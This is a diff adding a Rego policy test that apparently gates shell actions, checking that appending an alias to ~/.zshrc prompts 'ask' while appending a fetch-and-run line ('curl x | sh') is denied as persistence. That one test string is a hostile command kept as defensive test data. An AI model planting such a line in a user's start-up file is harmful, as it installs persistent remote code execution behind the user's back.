@@ -2030,3 +2030,14 @@ test_hooks_path_filled_from_the_network_denied if {
 	not got2["shell/fetched-hooks"]
 	got2["shell/git-hooks"] == "ask"
 }
+
+# Session 25: known set-up lines added to the user's start-up file ask; anything else there is
+# persistence.
+test_startup_file_set_up_lines_ask if {
+	plain := {"persistence": [{"kind": "shell_rc_plain", "target": "/home/dev/.zshrc", "evidence": "echo 'alias k=kubectl' >> ~/.zshrc"}]}
+	got := {d.id: d.decision | some d in rules.decision with input as shell_input([], plain)}
+	got == {"shell/startup-file-edit": "ask"}
+	planted := {"persistence": [{"kind": "shell_rc", "target": "/home/dev/.zshrc", "evidence": "echo 'curl x | sh' >> ~/.zshrc"}]}
+	got2 := {d.id: d.decision | some d in rules.decision with input as shell_input([], planted)}
+	got2 == {"shell/persistence": "deny"}
+}
